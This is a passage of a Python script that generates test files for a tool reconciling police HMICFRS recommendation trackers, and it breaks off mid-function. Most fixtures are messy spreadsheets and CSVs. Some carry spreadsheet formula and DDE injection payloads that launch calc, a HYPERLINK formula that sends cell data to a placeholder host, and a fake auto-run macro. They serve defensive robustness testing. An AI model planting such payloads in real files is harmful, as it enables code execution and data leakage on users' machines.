"""Write the corpus of messy, bad and hostile input files, and its manifest.

Each file is one thing a force or HMICFRS really sends (or an attacker could): a BTP-style
progress chart graded only by cell shading, a City of London tracker with report-title rows,
an .xls from an old Excel, a PDF renamed .xlsx, a password-protected workbook, an XML bomb.
`manifest.csv` says, for each, which side it is read as and what must happen: `ok` with the
number of items and a few facts about them, or `error` with a fragment of the message (and the
sheet, line or cell it must name). `tests/test_corpus.py` runs every one through the CLI.

Run from the repository root to regenerate (the output is deterministic, so an unchanged
corpus shows no diff):

    .venv/bin/python tests/corpus/make_corpus.py

The `.xls` file needs xlwt (`pip install xlwt`; only this script uses it, the tool reads .xls
with python-calamine); without it the committed `.xls` is kept.

Texts are public HMICFRS recommendations (Open Government Licence).
"""

from __future__ import annotations

import csv
import io
import re
import struct
import zipfile
from datetime import datetime
from pathlib import Path
from typing import Any

from reconcile.casegen.texts import CONTROL_ROOM, DIGITAL, FIREARMS, MSHT_INTEL, MSHT_NRM

HERE = Path(__file__).resolve().parent
FILES = HERE / "files"
FIXED_TIME = (2024, 1, 1, 0, 0, 0)

# ----------------------------------------------------------------------------- texts

INTEL, NRM = MSHT_INTEL, MSHT_NRM

STOP_APP = ("Chief Constables and the College of Policing should establish in the Stop and Search "
            "Authorised Professional Practice document a clear specification of what constitutes "
            "the effective and fair exercise of stop and search powers, and guidance in this "
            "respect. This should be compliant with the Code of Practice.")
STOP_MONITOR = ("Chief Constables should establish or improve monitoring of the way officers stop "
                "and search people, so that they can be satisfied their officers are acting in "
                "accordance with the law (including equality legislation and the Code of "
                "Practice), and that the power is used effectively to prevent crime, catch "
                "criminals and maintain public trust.")
CASE_FILES = ("The force should improve its use of its crime-recording and management system to "
              "better manage its case files and investigative processes.")
MISCONDUCT = ("By 31 August 2015, all chief constables should satisfy themselves that they have "
              "processes in place to ensure that investigations into misconduct by officers and "
              "staff resulting in “no further action” are fair and free of any form of "
              "discrimination.")
THREAT = ("Not later than 31 March 2015 those forces using a threat, harm and risk policy, that have "
          "not yet done so, should provide call-handlers with specific, sound and comprehensible "
          "criteria against which they can assess threat, harm and risk.")
LEADERSHIP_PARTS = [
    "Within twelve months, forces should review their leadership and governance arrangements "
    "for modern slavery and human trafficking, to ensure that:",
    "• senior leaders prioritise the response to modern slavery and human trafficking;",
    "• every incident of modern slavery identified to police is allocated appropriate resources "
    "with the skills, experience and capacity to investigate it effectively;",
    "• forces develop effective partnership arrangements to co-ordinate activity in order to "
    "share information and safeguard victims; and",
    "• performance and quality assurance measures are in place to allow senior leaders to assess "
    "the nature and quality of the service provided to victims.",
]
LEADERSHIP = "\n".join(LEADERSHIP_PARTS)

SF = "Stolen freedom: the policing response to modern slavery and human trafficking"
PEEL = "PEEL: Police efficiency 2017"
STOP = "Stop and search powers: Are the police using them effectively and fairly?"

FORCE_HEADER = ["No.", "HMICFRS Ref", "Recommendations & Areas for Improvement", "Type", "Lead",
                "RAG", "Progress update"]

# ------------------------------------------------------------------------- manifest

CASES: list[dict[str, str]] = []


def case(file: str, side: str, expect: str, *, items: int | None = None, checks: str = "",
         message: str = "", where: str = "", why: str = "") -> None:
    """One manifest line. checks: ';'-separated `field@Sheet!Row=value` (a CSV field of that
    row), `note~text` (in Run info), `skip@Sheet!Row~reason` (a row explained in Run info)."""
    CASES.append({"file": file, "side": side, "expect": expect,
                  "items": "" if items is None else str(items), "checks": checks,
                  "message": message, "where": where, "why": why})


# --------------------------------------------------------------------------- writers


def _zip_rewrite(path: Path, edit: dict[str, bytes | None] | None = None,
                 add: dict[str, bytes] | None = None) -> None:
    """Rewrite a zip with fixed timestamps (deterministic bytes), editing parts on the way."""
    path.write_bytes(_fixed(path.read_bytes(), edit, add))


def _fixed(data: bytes, edit: dict[str, bytes | None] | None = None,
           add: dict[str, bytes] | None = None) -> bytes:
    edit = edit or {}
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        parts = [(i.filename, zf.read(i.filename)) for i in zf.infolist()]
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as out:
        for name, data in parts + list((add or {}).items()):
            if name in edit:
                if edit[name] is None:
                    continue
                data = edit[name]
            if name == "docProps/core.xml":
                data = re.sub(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", b"2024-01-01T00:00:00Z", data)
            info = zipfile.ZipInfo(name, FIXED_TIME)
            info.compress_type = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            out.writestr(info, data)
    return buf.getvalue()


def xlsx(name: str, sheets: dict[str, list[list[Any]]], *, merges: dict[str, list[str]] | None = None,
         bold: dict[str, list[str]] | None = None, fills: dict[str, dict[str, Any]] | None = None,
         hidden_rows: dict[str, list[int]] | None = None, states: dict[str, str] | None = None,
         text_cells: bool = True) -> Path:
    """A workbook from rows of values; strings starting '=' are formulas only if text_cells=False."""
    import openpyxl
    from openpyxl.styles import Font, PatternFill

    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    for sheet, rows in sheets.items():
        ws = wb.create_sheet(sheet)
        for r, row in enumerate(rows, start=1):
            for c, value in enumerate(row, start=1):
                if value is None:
                    continue
                cell = ws.cell(row=r, column=c, value=value)
                if text_cells and isinstance(value, str) and value.startswith("="):
                    cell.data_type = "s"
        for rng in (merges or {}).get(sheet, []):
            ws.merge_cells(rng)
        for ref in (bold or {}).get(sheet, []):
            ws[ref].font = Font(bold=True)
        for ref, colour in (fills or {}).get(sheet, {}).items():
            ws[ref].fill = PatternFill("solid", fgColor=colour)
        for r in (hidden_rows or {}).get(sheet, []):
            ws.row_dimensions[r].hidden = True
        ws.sheet_state = (states or {}).get(sheet, "visible")
    wb.properties.creator = "reconcile corpus"
    path = FILES / name
    wb.save(path)
    _zip_rewrite(path)
    return path


def cache_formulas(path: Path, sheet_part: str, values: dict[str, str]) -> None:
    """Give formula cells the result Excel would have saved (openpyxl writes none)."""
    with zipfile.ZipFile(path) as zf:
        xml = zf.read(sheet_part).decode("utf-8")
    from xml.sax.saxutils import escape

    for ref, value in values.items():
        # openpyxl writes an empty <v/>, or with lxml installed <v></v> or none at all.
        xml, n = re.subn(rf'(<c r="{ref}")([^>]*)><f>(.*?)</f>(?:<v\s*/>|<v></v>)?',
                         lambda m, v=value: f'{m.group(1)}{m.group(2)} t="str"><f>{m.group(3)}</f>'
                                            f"<v>{escape(v)}</v>", xml)
        assert n == 1, ref
    _zip_rewrite(path, edit={sheet_part: xml.encode("utf-8")})


def raw(name: str, data: bytes) -> Path:
    path = FILES / name
    path.write_bytes(data)
    return path


def text_file(name: str, rows: list[list[Any]], encoding: str = "utf-8", delimiter: str = ",",
              bom: bool = False) -> Path:
    buf = io.StringIO(newline="")
    csv.writer(buf, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    data = buf.getvalue().encode(encoding)
    if bom:
        data = b"\xef\xbb\xbf" + data
    return raw(name, data)


# ------------------------------------------------------------------- partner files


def partners() -> None:
    """The other side of every run: a small HMICFRS list and a small force tracker."""
    h = [["HMICFRS recommendations held against British Transport Police"],
         ["Definitive list as at 1 November 2017"], [],
         ["Reference", "Report title", "Publication date", "Type", "Recommendation", "Status"]]
    rows = [(8801, SF, datetime(2017, 10, 24), "Recommendation", INTEL, "Being progressed"),
            (8802, SF, datetime(2017, 10, 24), "Recommendation", NRM, "Complete"),
            (8803, PEEL, datetime(2017, 11, 9), "AFI", CONTROL_ROOM, "Awaiting review"),
            (8804, PEEL, datetime(2017, 11, 9), "Recommendation", DIGITAL, "Being progressed"),
            (7101, STOP, datetime(2013, 7, 9), "Recommendation", STOP_APP, "Being progressed"),
            (7102, STOP, datetime(2013, 7, 9), "Recommendation", STOP_MONITOR, "Complete"),
            (8805, SF, datetime(2017, 10, 24), "Recommendation", LEADERSHIP, "Being progressed")]
    xlsx("_partner_hmicfrs.xlsx", {"Definitive list": h + [list(r) for r in rows]})
    xlsx("_partner_force.xlsx", {"Tracker": [
        ["BTP HMICFRS tracker"], [], FORCE_HEADER,
        [1, 8801, INTEL, "Recommendation", "DCI Patel", "Green", "ISA signed"],
        [2, None, CONTROL_ROOM, "AFI", "Head of Contact", "Amber", None],
        [3, None, STOP_APP, "Recommendation", "Supt Jones", "Red", None]]})


# ------------------------------------------------------------------------ messy: xlsx


def btp_progress_chart() -> None:
    """BTP's stop and search progress chart: a form above the table, RAG only as shading."""
    rows = [
        ["Stop and Search Recommendations Progress Chart"],
        ["Force", "British Transport Police"],
        ["Chief officer stop search lead for force", "ACC Operations"],
        ["Operational stop search lead for force", "Supt Neighbourhoods"],
        ["Date form completed", "29/10/2015"],
        ["Assessment rating: PLEASE SHADE BOX APPROPRIATE COLOUR"],
        [],
        ["No.", "HMIC 2013", "Force update / assessment of progress",
         "Estimated completion date / updated", "Grading R/A/G"],
        [1, STOP_APP, "APP adopted; awaiting College of Policing guidance.", "31/03/2016", None],
        [2, STOP_MONITOR, "Monthly scrutiny panel in place since June 2015.", datetime(2015, 6, 30), None],
        [3, FIREARMS, "Demand review commissioned.", "December 2015", None],
        [4, THREAT, "Light blue shaded areas do not need to be completed", None, None],
        [],
        ["Key"],
        ["RED", "Little work yet undertaken in this area. Unlikely to reach deadlines"],
        ["AMBER", "Work undertaken in area but still requires development to complete"],
        ["GREEN", "Already complete / believed to be complete within short time scale"],
    ]
    fills = {"E9": "FFFFC000", "E10": "FF00B050", "E11": "FFFF0000", "E12": "FFDDEBF7",
             "A15": "FFFF0000", "A16": "FFFFC000", "A17": "FF00B050"}
    xlsx("btp_progress_chart.xlsx", {"Progress chart": rows}, fills={"Progress chart": fills},
         bold={"Progress chart": ["A1", "A8", "B8", "C8", "D8", "E8", "A14"]})
    case("btp_progress_chart.xlsx", "force", "ok", items=4,
         checks="status@Progress chart!9=Amber (cell colour);status@Progress chart!10=Green (cell "
                "colour);status@Progress chart!11=Red (cell colour);status@Progress chart!12=Blue "
                "(cell colour);due@Progress chart!11=December 2015;note~status read from cell "
                "colour on 4 rows;skip@Progress chart!5~title or form field;skip@Progress "
                "chart!15~legend row",
         why="form fields above the header; RAG kept only as fill colour; key below the table")


def rag_theme_and_indexed() -> None:
    """Fills chosen from Excel's palette: theme colours with tints, and indexed colours."""
    from openpyxl.styles.colors import Color

    rows = [["Tracker"], [*FORCE_HEADER[:3], "RAG"],
            [1, None, INTEL, None], [2, None, NRM, None], [3, None, CONTROL_ROOM, None],
            [4, None, DIGITAL, None]]
    # openpyxl's theme (Office 2007): accent2 C0504D red, accent6 F79646 orange, accent3 green.
    xlsx("rag_theme_colours.xlsx", {"Tracker": rows}, fills={"Tracker": {
        "D3": Color(theme=5, tint=0.3999), "D4": Color(theme=9, tint=0.5999),
        "D5": Color(theme=6, tint=-0.2499), "D6": Color(theme=0, tint=-0.1499)}})
    case("rag_theme_colours.xlsx", "force", "ok", items=4,
         checks="status@Tracker!3=Red (cell colour);status@Tracker!4=Amber (cell colour);"
                "status@Tracker!5=Green (cell colour);status@Tracker!6=Grey (cell colour)",
         why="theme colours with tints (Accent 2 lighter 40%, Background 1 darker 15%)")
    xlsx("rag_indexed_colours.xlsx", {"Tracker": rows}, fills={"Tracker": {
        "D3": Color(indexed=10), "D4": Color(indexed=13), "D5": Color(indexed=17),
        "D6": Color(indexed=44)}})
    case("rag_indexed_colours.xlsx", "force", "ok", items=4,
         checks="status@Tracker!3=Red (cell colour);status@Tracker!4=Amber (cell colour);"
                "status@Tracker!5=Green (cell colour);status@Tracker!6=Blue (cell colour)",
         why="indexed (legacy palette) colours")
    xlsx("rag_white_only.xlsx", {"Tracker": rows[:5]}, fills={"Tracker": {
        f"{c}{r}": "FFFFFFFF" for c in "ABCD" for r in range(1, 6)}})
    case("rag_white_only.xlsx", "force", "ok", items=3,
         checks="status@Tracker!3=;note~shaded only white or grey: not read as a status",
         why="a sheet shaded white all over (to hide gridlines) is not a grading")
    xlsx("rag_text_wins.xlsx", {"Tracker": [[*FORCE_HEADER[:3], "RAG"],
                                           [1, None, INTEL, "Amber"], [2, None, NRM, None]]},
         fills={"Tracker": {"D2": "FF00B050", "D3": "FF00B050"}})
    case("rag_text_wins.xlsx", "force", "ok", items=2,
         checks="status@Tracker!2=Amber;status@Tracker!3=Green (cell colour)",
         why="a status written in the cell wins over its shading")


def report_blocks() -> None:
    """City of London's layout: a report block heading above its rows; WHITE; free-text dates."""
    rows = [
        ["City of London Police – HMICFRS Report Recommendations"],
        ["Appendix 1 – June 2019"],
        ["No.", "Type", "Recommendations & Areas for Improvement", "Status", "Due Date", "Comment"],
        ["PEEL 2018/2019 A national report by HMICFRS Published May 2019"],
        [1, "Area for Improvement", CASE_FILES, "AMBER", "No deadline set by HMICFRS",
         "December 2019 set to align with the next inspection"],
        [2, "Area for Improvement", CONTROL_ROOM, "WHITE", "30 Sep 2023", None],
        [],
        [STOP + " Published July 2013"],
        [1, "Recommendation", STOP_APP, "GREEN", "9th February 2017", None],
        [2, "Recommendation", STOP_MONITOR, "Open - Actions on going on track", 42775, None],
    ]
    xlsx("col_report_blocks.xlsx", {"Appendix 1": rows},
         merges={"Appendix 1": ["A4:F4", "A8:F8"]}, bold={"Appendix 1": ["A4", "A8"]})
    case("col_report_blocks.xlsx", "force", "ok", items=4,
         checks="report@Appendix 1!5=PEEL 2018/2019 A national report by HMICFRS Published May "
                "2019;report@Appendix 1!10=" + STOP + " Published July 2013;due@Appendix 1!5=No "
                "deadline set by HMICFRS;state@Appendix 1!6=done;state@Appendix 1!10=open;"
                "note~dates not understood in 'Due Date';skip@Appendix 1!8~report title row",
         why="report-title rows between blocks, WHITE grade, dates as free text and serials")


def merged_and_hidden() -> None:
    rows = [["National reports"], ["Report", "Ref", "Action", "Owner", "Status"],
            [SF, "Rec 1", INTEL, "DCI Patel", "Open"],
            [None, "Rec 2", NRM, "DCI Patel", "Closed"],
            [None, "Rec 3", LEADERSHIP, "DCI Patel", "In Progress"],
            [PEEL, "AFI 1", CONTROL_ROOM, "Head of Contact", "Complete"]]
    xlsx("merged_report_cells.xlsx", {"National reports": rows},
         merges={"National reports": ["A3:A5"]})
    case("merged_report_cells.xlsx", "force", "ok", items=4,
         checks=f"report@National reports!4={SF};report@National reports!5={SF};"
                f"local_ref@National reports!5=Rec 3",
         why="a report name merged down its block of rows")
    xlsx("hidden_rows.xlsx", {"Tracker": [["Tracker"], FORCE_HEADER,
                                          [1, None, INTEL, None, "DCI Patel", "Green", None],
                                          [2, None, NRM, None, "DCI Patel", "Green", None],
                                          [3, None, CONTROL_ROOM, None, "Head of Contact", "Red", None],
                                          [4, None, DIGITAL, None, "Head of IT", "Amber", None],
                                          ["Rows 4 and 5 closed at JAC, September 2017"]]},
         hidden_rows={"Tracker": [4, 5, 7]})
    case("hidden_rows.xlsx", "force", "ok", items=4,
         checks="status@Tracker!4=Green;note~hidden rows 4-5, 7: read like the others",
         why="rows hidden (or filtered out) in Excel are still items, and said to be hidden")
    head = ["Recommendation", "Status", "Owner"]
    xlsx("hidden_sheets.xlsx", {
        "2017": [head, [INTEL, "Green", "DCI Patel"], [NRM, "Amber", "DCI Patel"]],
        "Archive 2013": [["Archived: stop and search"], head, [STOP_APP, "Green", "Supt Jones"],
                         [STOP_MONITOR, "Complete", "Supt Jones"]],
        "Lookups": [head, [DIGITAL, "Red", "Head of IT"]]},
        states={"Archive 2013": "hidden", "Lookups": "veryHidden"})
    case("hidden_sheets.xlsx", "force", "ok", items=5,
         checks="status@Archive 2013!3=Green;status@Lookups!2=Red;note~hidden sheet: read like "
                "the others;note~very hidden sheet",
         why="hidden and very hidden sheets of items are read, and said to be hidden")


def formulas() -> None:
    rows = [[*FORCE_HEADER[:3], "RAG", "Lead"],
            [1, None, f'="{INTEL[:60]}"&"{INTEL[60:]}"', '=IF(TRUE,"Green","Red")', "DCI Patel"],
            [2, None, NRM, '=IF(TRUE,"Amber","Red")', "DCI Patel"],
            [3, None, CONTROL_ROOM, '=IF(FALSE,"","")', "Head of Contact"]]
    path = xlsx("formulas_cached.xlsx", {"Tracker": rows}, text_cells=False)
    cache_formulas(path, "xl/worksheets/sheet1.xml",
                   {"C2": INTEL, "D2": "Green", "D3": "Amber", "D4": ""})
    case("formulas_cached.xlsx", "force", "ok", items=3,
         checks=f"text@Tracker!2={INTEL};status@Tracker!2=Green;status@Tracker!3=Amber;"
                "status@Tracker!4=",
         why="formulas give the result Excel saved (an empty result is a real empty)")
    rows = [["Tracker"], [*FORCE_HEADER[:3], "RAG", "Lead"],
            [1, None, INTEL, '=IF(A3=1,"Green","Red")', "DCI Patel"],
            [2, None, NRM, '=IF(A4=1,"Green","Amber")', "DCI Patel"],
            [3, None, '=C3&" (repeat)"', "Red", "Head of Contact"],
            [4, None, CONTROL_ROOM, "Red", "Head of Contact"]]
    xlsx("formulas_uncached.xlsx", {"Tracker": rows}, text_cells=False)
    case("formulas_uncached.xlsx", "force", "ok", items=3,
         checks="status@Tracker!3=;note~formulas with no saved result, read as blank: D3, D4;"
                "skip@Tracker!5~is a formula with no saved result",
         why="a file saved by a program that does not calculate: reported, not silently blank")
    rows = [["Tracker"], [*FORCE_HEADER[:3], "RAG"],
            [1, None, "=VLOOKUP(A3,Lookup!A:B,2,FALSE)", "Green"],
            [2, None, "=VLOOKUP(A4,Lookup!A:B,2,FALSE)", "Amber"]]
    xlsx("all_text_uncalculated.xlsx", {"Tracker": rows}, text_cells=False)
    case("all_text_uncalculated.xlsx", "force", "error",
         message="are formulas with no saved result", where="sheet 'Tracker'",
         why="every text cell a formula never calculated: nothing to read, and says why")
    rows = [[*FORCE_HEADER[:3], "RAG"], [1, None, "#REF!", "Green"], [2, None, INTEL, "#N/A"],
            [3, None, NRM, "Amber"]]
    path = xlsx("excel_errors.xlsx", {"Tracker": rows})
    with zipfile.ZipFile(path) as zf:
        xml = zf.read("xl/worksheets/sheet1.xml").decode()
    for ref, err in (("C2", "#REF!"), ("D3", "#N/A")):
        xml = re.sub(rf'<c r="{ref}" t="inlineStr"><is><t>{re.escape(err)}</t></is></c>',
                     f'<c r="{ref}" t="e"><f>Lookup!B2</f><v>{err}</v></c>', xml)
    _zip_rewrite(path, edit={"xl/worksheets/sheet1.xml": xml.encode()})
    case("excel_errors.xlsx", "force", "ok", items=2,
         checks="status@Tracker!3=#N/A;note~Excel error values, kept as written: D3 #N/A;"
                "skip@Tracker!2~is the Excel error #REF!",
         why="cells showing #REF! and #N/A")


def headers_and_cells() -> None:
    rows = [["Recommendation", "Status", None, "Owner", "Status", "Notes", "Notes"],
            [INTEL, "Green", "see evidence folder", "DCI Patel", "Closed", "ISA signed", None],
            [NRM, "Amber", None, "DCI Patel", "Open", None, "NRM training"],
            [CONTROL_ROOM, "Red", None, "Head of Contact", None, None, None]]
    xlsx("empty_and_duplicate_headers.xlsx", {"Tracker": rows})
    case("empty_and_duplicate_headers.xlsx", "force", "ok", items=3,
         checks="status@Tracker!2=Green;note~header 'Status' appears in columns B and E: column B "
                "used;note~values in columns with no header, not read: C",
         why="a column with no header holding values; a header used twice")
    long_text = (LEADERSHIP + "\n") * 60
    long_text = long_text[:32000]
    xlsx("long_cells.xlsx", {"Tracker": [["Recommendation", "Status", "Progress update"],
                                         [long_text, "Amber", long_text], [INTEL, "Green", None]]})
    case("long_cells.xlsx", "force", "ok", items=2, checks="status@Tracker!2=Amber",
         why="cells of 32,000 characters")
    xlsx("numeric_and_odd_headers.xlsx", {"Sheet1": [
        [2019, datetime(2019, 4, 1), "Recommendation\n(text)", "RAG\u00a0Status", " Lead officer "],
        [1, None, INTEL, "Green", "DCI Patel"], [2, None, DIGITAL, "Red", "Head of IT"]]})
    case("numeric_and_odd_headers.xlsx", "force", "ok", items=2,
         checks="status@Sheet1!2=Green;owner@Sheet1!3=Head of IT",
         why="headers with line breaks, non-breaking spaces, numbers and dates")
    xlsx("header_repeated.xlsx", {"Tracker": [
        ["HMICFRS tracker – page 1"], FORCE_HEADER,
        [1, None, INTEL, None, "DCI Patel", "Green", None],
        [2, None, NRM, None, "DCI Patel", "Amber", None],
        ["HMICFRS tracker – page 2"], FORCE_HEADER,
        [3, None, CONTROL_ROOM, None, "Head of Contact", "Red", None],
        [4, None, DIGITAL, None, "Head of IT", "Green", None]]})
    case("header_repeated.xlsx", "force", "ok", items=4,
         checks="skip@Tracker!6~header row repeated",
         why="the header repeated for printing, with a page title above it")
    xlsx("notes_and_legend.xlsx", {
        "Tracker": [FORCE_HEADER,
                    [1, None, INTEL, None, "DCI Patel", "Green", None],
                    [None, None, "Note: recommendation 2 was superseded by the 2019 inspection.",
                     None, None, None, None],
                    [3, None, NRM, None, "DCI Patel", "Amber", None],
                    ["NB rows are ordered by report"],
                    [4, None, CONTROL_ROOM, None, "Head of Contact", "Red", None],
                    [], ["RAG key"], ["GREEN", None, "The recommendation is implemented"],
                    ["WHITE", None, "Not the force's responsibility to deliver"]],
        "Key": [["Colour", "Meaning"], ["GREEN", "The recommendation is implemented"]]})
    case("notes_and_legend.xlsx", "force", "ok", items=3,
         checks="skip@Tracker!3~note row;skip@Tracker!5~legend or note row;skip@Tracker!8~legend "
                "heading;skip@Tracker!10~legend row;skip@Key!2~no table of items",
         why="notes in the text column, a key under the table and a Key sheet")
    xlsx("first_sheet_empty.xlsx", {"Sheet1": [], "Tracker": [
        ["Recommendation", "Status"], [INTEL, "Green"], [NRM, "Amber"]]})
    case("first_sheet_empty.xlsx", "force", "ok", items=2, checks="status@Tracker!3=Amber",
         why="an empty first sheet")
    xlsx("split_recommendation.xlsx", {"Tracker": [
        ["Ref", "Report", "Recommendation", "Status"],
        ["1a", SF, LEADERSHIP_PARTS[0] + " " + LEADERSHIP_PARTS[1], "Green"],
        ["1b", SF, LEADERSHIP_PARTS[2], "Green"],
        ["1c", SF, LEADERSHIP_PARTS[3], "Amber"],
        ["2", SF, INTEL, "Green"]]})
    case("split_recommendation.xlsx", "force", "ok", items=4,
         checks="status@Tracker!4=Amber",
         why="one recommendation split into a row per bullet: each row once in the output")
    xlsx("stray_far_cell.xlsx", {"Tracker": [["Recommendation", "Status"], [INTEL, "Green"],
                                             [NRM, "Amber"]]})
    path = FILES / "stray_far_cell.xlsx"
    with zipfile.ZipFile(path) as zf:
        xml = zf.read("xl/worksheets/sheet1.xml").decode()
    xml = xml.replace("</sheetData>", '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x'
                                      "</t></is></c></row></sheetData>")
    xml = re.sub(r'<dimension ref="[^"]*"', '<dimension ref="A1:XFD1048576"', xml)
    _zip_rewrite(path, edit={"xl/worksheets/sheet1.xml": xml.encode()})
    case("stray_far_cell.xlsx", "force", "ok", items=2,
         checks="skip@Tracker!1048576~no recommendation text",
         why="a stray value in the last cell of the sheet: read quickly, and explained")
    injection = ["=HYPERLINK(\"http://example.invalid\",\"Click\")", "+44 20 7946 0000 call back",
                 "-" + INTEL, "@SUM(1+1)*cmd|' /C calc'!A0"]
    xlsx("formula_injection.xlsx", {"Tracker": [["Recommendation", "Status", "Progress update"]]
                                    + [[INTEL if i == 2 else NRM if i == 3 else t, "Green", t]
                                       for i, t in enumerate(injection)]})
    case("formula_injection.xlsx", "force", "ok", items=4,
         checks=f"text@Tracker!2={injection[0]};progress@Tracker!5={injection[3]}",
         why="text that starts like a formula is read and written as text, never evaluated")
    xlsx("xlsx_named_xls.xls", {"Tracker": [["Recommendation", "Status"], [INTEL, "Green"],
                                            [NRM, "Amber"]]})
    case("xlsx_named_xls.xls", "force", "ok", items=2, checks="status@Tracker!2=Green",
         why="a real .xlsx saved with an .xls name: read by its content")
    path = xlsx("macro_tracker.xlsm", {"Tracker": [["Recommendation", "Status"], [INTEL, "Green"],
                                                   [NRM, "Red"]]})
    with zipfile.ZipFile(path) as zf:
        types = zf.read("[Content_Types].xml").decode()
    types = types.replace(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml").replace(
        "</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                    "</Types>")
    _zip_rewrite(path, edit={"[Content_Types].xml": types.encode()},
                 add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"Attribute VB_Name = \"Module1\"\r\n"
                      b"Sub Auto_Open()\r\nShell \"calc.exe\"\r\nEnd Sub\r\n"})
    case("macro_tracker.xlsm", "force", "ok", items=2, checks="status@Tracker!3=Red",
         why="a macro-enabled workbook: values read, the macro never run or copied")


def hmicfrs_side() -> None:
    rows = [["HMICFRS – recommendations and AFIs held against British Transport Police"],
            ["Produced", datetime(2017, 11, 1)], [],
            ["Reference", "Report title", "Publication date", "Type", "Recommendation",
             "Status"],
            [8801, SF, "24/10/2017", "Recommendation", INTEL, "Being progressed"],
            [8802, SF, "24th October 2017", "Recommendation", NRM, "Complete"],
            [8803, PEEL, datetime(2017, 11, 9), "Area for improvement", CONTROL_ROOM,
             "Awaiting review"],
            [7101, STOP, "July 2013", "Recommendation", STOP_APP, "Superseded"]]
    xlsx("hmicfrs_definitive_list.xlsx", {"Definitive list": rows})
    case("hmicfrs_definitive_list.xlsx", "hmicfrs", "ok", items=4,
         checks="state@Definitive list!8=closed;skip@Definitive list!2~title or form field",
         why="the HMICFRS list with a title block")
    text_file("hmicfrs_cp1252.csv", [r for r in rows[3:]], encoding="cp1252")
    case("hmicfrs_cp1252.csv", "hmicfrs", "ok", items=4,
         checks="state@hmicfrs_cp1252.csv!3=closed;note~",
         why="the HMICFRS list as CSV from Excel in Windows-1252")


def text_files() -> None:
    head = ["No.", "Recommendation", "RAG", "Lead"]
    text_file("utf8_bom.csv", [head, [1, INTEL.replace("'", "’"), "Green", "DCI Patel"],
                               [2, MISCONDUCT, "Amber", "Head of PSD"],
                               [3, "Within six months – " + NRM[13:], "Red", "DCI Patel"]], bom=True)
    case("utf8_bom.csv", "force", "ok", items=3, checks="status@utf8_bom.csv!3=Amber",
         why="Excel's 'CSV UTF-8' with a BOM, curly quotes and dashes")
    text_file("cp1252.csv", [head, [1, MISCONDUCT, "Green", "Head of PSD"],
                             [2, "Officers’ workload – " + CONTROL_ROOM, "Amber", "Ch Supt Ops"]],
              encoding="cp1252")
    case("cp1252.csv", "force", "ok", items=2, checks="status@cp1252.csv!3=Amber",
         why="Excel's plain CSV (Windows-1252) with curly quotes")
    buf = io.StringIO(newline="")
    csv.writer(buf, delimiter="\t", lineterminator="\r\n").writerows(
        [head, [1, INTEL, "Green", "DCI Patel"], [2, "Officers’ “workload”: " + NRM, "Amber", "DCI Patel"]])
    raw("unicode_text.txt", b"\xff\xfe" + buf.getvalue().encode("utf-16-le"))
    case("unicode_text.txt", "force", "ok", items=2, checks="status@unicode_text.txt!2=Green",
         why="Excel's 'Unicode Text': UTF-16 with a BOM, tab-separated")
    text_file("semicolon.csv", [head, [1, INTEL, "Green", "DCI Patel"],
                                [2, CONTROL_ROOM, "Amber", "Ch Supt Ops"]], delimiter=";")
    case("semicolon.csv", "force", "ok", items=2, checks="status@semicolon.csv!3=Amber",
         why="semicolon-separated, as Excel writes in much of Europe")
    raw("ragged_multiline.csv", (
        "Tracker exported from SharePoint\r\n\r\n"
        "No.,Recommendation,RAG,Lead,Progress update\r\n"
        f"1,\"{LEADERSHIP}\",Amber,DCI Patel\r\n"
        f"2,\"{INTEL}\",Green,DCI Patel,\"ISA signed\r\nwith three councils\",extra\r\n"
        ",,,,\r\n"
        f"3,\"{CONTROL_ROOM}\",Red\r\n").encode())
    case("ragged_multiline.csv", "force", "ok", items=3,
         checks="status@ragged_multiline.csv!5=Green;skip@ragged_multiline.csv!1~title",
         why="rows of different lengths, cells over several lines, a title above the header")
    long_field = (" ".join([LEADERSHIP] * 200))[:150_000]
    text_file("long_field.csv", [["Recommendation", "Status"], [long_field, "Amber"],
                                 [INTEL, "Green"]])
    case("long_field.csv", "force", "ok", items=2,
         checks="status@long_field.csv!2=Amber;note~cells longer than Excel's",
         why="a 150,000-character cell: beyond the csv module's default limit")
    text_file("formula_injection.csv", [
        ["Recommendation", "Status", "Progress update"],
        ["=HYPERLINK(\"http://example.invalid/?\"&A1,\"Evidence\")", "Green", "=1+1"],
        [INTEL, "Amber", "=cmd|' /C calc'!A0"], [NRM, "Red", "@SUM(A1:A2)"]])
    case("formula_injection.csv", "force", "ok", items=3,
         checks="progress@formula_injection.csv!3==cmd|' /C calc'!A0",
         why="a CSV carrying formula and DDE payloads")


def other_formats() -> None:
    try:
        import xlwt  # type: ignore[import-not-found]
    except ImportError:
        xlwt = None
    if xlwt is not None:
        wb = xlwt.Workbook()
        ws = wb.add_sheet("Tracker")
        bold = xlwt.easyxf("font: bold on")
        rows = [["BTP tracker (old Excel)"], [], FORCE_HEADER,
                [1, None, INTEL, "Recommendation", "DCI Patel", "Green", None],
                [2, None, NRM, "Recommendation", "DCI Patel", "Amber", None],
                [3, None, CONTROL_ROOM, "AFI", "Head of Contact", "Red", None]]
        for r, row in enumerate(rows):
            for c, v in enumerate(row):
                if v is not None:
                    ws.write(r, c, v, bold if r == 0 else xlwt.Style.default_style)
        hidden = wb.add_sheet("Archive")
        for r, row in enumerate([["Recommendation", "Status"], [STOP_APP, "Green"]]):
            for c, v in enumerate(row):
                hidden.write(r, c, v)
        hidden.visibility = 1
        wb.save(str(FILES / "legacy.xls"))
    case("legacy.xls", "force", "ok", items=4,
         checks="status@Tracker!5=Amber;local_ref@Tracker!4=1;status@Archive!2=Green;"
                "note~read from .xls;note~hidden sheet",
         why="Excel 97-2003 .xls, read with python-calamine")
    ods_rows = [["Tracker kept in LibreOffice"], ["Recommendation", "Status", "Owner"],
                [INTEL, "Green", "DCI Patel"], [NRM, "Amber", "DCI Patel"]]
    hidden_rows = [["Recommendation", "Status"], [DIGITAL, "Red"]]
